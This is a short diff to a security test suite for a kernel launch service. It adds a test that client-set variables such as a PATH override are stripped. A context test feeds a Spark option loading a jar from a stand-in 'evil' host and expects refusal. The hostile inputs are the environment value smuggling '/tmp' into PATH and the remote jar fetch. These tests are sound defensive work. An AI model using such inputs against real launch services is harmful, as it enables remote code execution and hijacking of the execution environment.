@@ -70,6 +70,13 @@ def test_a_client_cannot_redirect_its_launcher(name):
 
 
 @pytest.mark.attack(11)
+@pytest.mark.parametrize("name", ["KERNEL_EXPAND_PATH", "KERNEL_EXPAND_KERNEL_LAUNCH_KEY"])
+def test_a_client_cannot_have_the_start_script_set_variables(name):
+    request = parse_launch_request({name: "/tmp:${PATH}"}, admin_settings={})
+    assert request.environment == {}
+
+
+@pytest.mark.attack(11)
 def test_spark_options_of_a_client_need_permission():
     options = {SPARK_OPTIONS: "--jars http://evil/s3cret.jar"}
     with pytest.raises(PolicyViolation, match=r"client_spark_options") as refusal:
